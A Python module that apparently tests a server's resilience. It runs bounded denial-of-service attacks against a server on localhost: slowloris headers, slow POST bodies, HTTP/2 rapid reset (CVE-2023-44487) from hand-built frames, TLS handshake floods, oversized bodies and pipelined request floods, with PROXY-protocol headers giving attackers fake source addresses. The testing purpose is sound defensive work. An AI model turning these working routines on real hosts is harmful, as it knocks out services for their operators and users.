"""Attacks on the edge, each bounded in time and number, and only ever on this machine.

Every connection begins with a header of the PROXY protocol: the server sees attackers and the
well-behaved client under addresses of their own.
"""

import asyncio
import logging
import os
import socket
import ssl
import struct

SECONDS = 10.0
STRANGER = "203.0.113.9"


class Target:
    """Where the server is, and how to come to it."""

    def __init__(self, host: str, port: int, ca_file: str) -> None:
        self.host, self.port, self.ca_file = host, port, ca_file
        self.http1 = self._context(["http/1.1"])
        self.http2 = self._context(["h2"])

    def _context(self, protocols: list[str]) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=self.ca_file)
        context.set_alpn_protocols(protocols)
        return context

    async def tcp(self, source: str) -> socket.socket:
        """A connection that a balancer passed on from this address."""
        line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        line.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(line, ("127.0.0.1", self.port))
        line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        header = b"\r\n\r\n\0\r\nQUIT\n" + bytes([0x21, 0x11]) + struct.pack(">H", 12)
        header += socket.inet_aton(source) + socket.inet_aton("127.0.0.1")
        header += struct.pack(">HH", 40_000, self.port)
        await loop.sock_sendall(line, header)
        return line

    async def tls(self, source: str, http2: bool = False):
        """The two ends of a TLS connection from this address."""
        line = await self.tcp(source)
        context = self.http2 if http2 else self.http1
        try:
            return await asyncio.wait_for(
                asyncio.open_connection(
                    sock=line, ssl=context, server_hostname=self.host, limit=1 << 20
                ),
                20,
            )
        except BaseException:
            line.close()
            raise


async def send(writer, text: bytes) -> None:
    """Sends, and says so when the server has closed."""
    if writer.transport.is_closing():
        raise ConnectionResetError
    writer.write(text)
    await writer.drain()


def address(number: int, of: int) -> str:
    """One of `of` addresses of a network for documentation (RFC 5737)."""
    return f"198.51.100.{1 + number % of}"


async def quietly(work) -> int:
    """Runs one attacker; a connection that the server ends is what an attacker expects."""
    try:
        return int(await work or 0)
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
        return 0


async def all_of(work) -> int:
    """How much all attackers did, who are stopped at the end of the time."""
    tasks = [asyncio.ensure_future(quietly(each)) for each in work]
    done, late = await asyncio.wait(tasks, timeout=SECONDS)
    for task in late:
        task.cancel()
    await asyncio.gather(*late, return_exceptions=True)
    return sum(task.result() for task in done) + len(late)


async def nothing(target: Target) -> int:
    """Nobody attacks: what the figures beside it are to be held against."""
    await asyncio.sleep(SECONDS)
    return 0


async def slow_headers(target: Target) -> int:
    """2,000 connections that never end their first header, from 20 addresses."""

    async def one(number: int) -> int:
        reader, writer = await target.tls(address(number, 20))
        writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        while True:
            await send(writer, b"a")
            await asyncio.sleep(1)

    return await all_of(one(number) for number in range(2_000))


async def slow_headers_of_one(target: Target) -> int:
    """The same from one address."""

    async def one() -> int:
        reader, writer = await target.tls(STRANGER)
        writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        while True:
            await send(writer, b"a")
            await asyncio.sleep(1)

    return await all_of(one() for _ in range(2_000))


async def slow_bodies(target: Target) -> int:
    """500 bodies of a byte a second, from 20 addresses."""

    async def one(number: int) -> int:
        reader, writer = await target.tls(address(number, 20))
        writer.write(
            b"POST /oauth/token HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
        )
        while True:
            await send(writer, b"a")
            await asyncio.sleep(1)

    return await all_of(one(number) for number in range(500))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame of HTTP/2."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
    return head + payload


async def rapid_reset(target: Target) -> int:
    """Requests that are reset at once (CVE-2023-44487), on connections that are opened anew."""
    request = bytes([0x82, 0x87, 0x84, 0x41, 9]) + b"localhost"

    async def one() -> int:
        sent = 0
        while True:
            try:
                reader, writer = await target.tls(STRANGER, http2=True)
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                for first in range(1, 20_000, 200):
                    streams = range(first, first + 200, 2)
                    cancel = struct.pack(">I", 8)
                    pairs = (
                        frame(1, 5, stream, request) + frame(3, 0, stream, cancel)
                        for stream in streams
                    )
                    await send(writer, b"".join(pairs))
                    sent += len(streams)
                writer.close()
            except (OSError, asyncio.TimeoutError):
                await asyncio.sleep(0.05)

    return await all_of(one() for _ in range(8))


async def handshakes(target: Target) -> int:
    """Whole TLS handshakes and nothing behind them, 5,000 at most, from 50 addresses."""

    async def one(number: int) -> int:
        for turn in range(500):
            reader, writer = await target.tls(address(number * 7 + turn, 50))
            writer.transport.abort()
        return 500

    return await all_of(one(number) for number in range(10))


async def half_handshakes(target: Target) -> int:
    """1,000 connections that say half a client's first word, from 20 addresses."""

    async def one(number: int) -> int:
        line = await target.tcp(address(number, 20))
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(line, bytes.fromhex("160301020001"))
        try:
            await loop.sock_recv(line, 1)
        finally:
            line.close()
        return 1

    return await all_of(one(number) for number in range(1_000))


async def large_bodies(target: Target) -> int:
    """Bodies of 200 MB, again and again: how many megabytes the server let itself be sent."""

    async def one(number: int) -> int:
        sent = 0
        for _ in range(20):
            reader, writer = await target.tls(address(number, 8))
            writer.write(
                b"POST /oauth/token HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: 209715200\r\n\r\n"
            )
            try:
                for _ in range(3_200):
                    await send(writer, bytes(65_536))
                    sent += 65_536
            except OSError:
                pass
            writer.transport.abort()
        return sent

    return await all_of(one(number) for number in range(8)) // 1_000_000


async def many_requests(target: Target) -> int:
    """100,000 requests of one address, pipelined on 20 connections."""
    part = b"GET /v1/jobs HTTP/1.1\r\nHost: localhost\r\n\r\n" * 25

    async def one() -> int:
        answered = 0
        while answered < 5_000:
            reader, writer = await target.tls(STRANGER)
            try:
                while answered < 5_000:
                    await send(writer, part)
                    for _ in range(25):
                        head = await reader.readuntil(b"\r\n\r\n")
                        length = next(
                            int(line.split(b":")[1])
                            for line in head.lower().split(b"\r\n")
                            if line.startswith(b"content-length:")
                        )
                        await reader.readexactly(length)
                        answered += 1
            except (OSError, asyncio.IncompleteReadError):
                pass
            finally:
                writer.transport.abort()
        return answered

    return await all_of(one() for _ in range(20))


ATTACKS = {
    "nobody attacks": nothing,
    "2,000 slow headers, one address": slow_headers_of_one,
    "2,000 slow headers, 20 addresses": slow_headers,
    "500 slow bodies": slow_bodies,
    "rapid reset": rapid_reset,
    "handshake flood": handshakes,
    "1,000 half handshakes": half_handshakes,
    "bodies of 200 MB": large_bodies,
    "100,000 requests, one address": many_requests,
}


def run(name: str, target: Target) -> None:
    """Attacks, and says how much of it the server took."""
    # That a connection is gone is what an attacker expects.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    # Attackers have machines of their own: here they come after the server.
    os.nice(5)
    print(asyncio.run(ATTACKS[name](target)), flush=True)
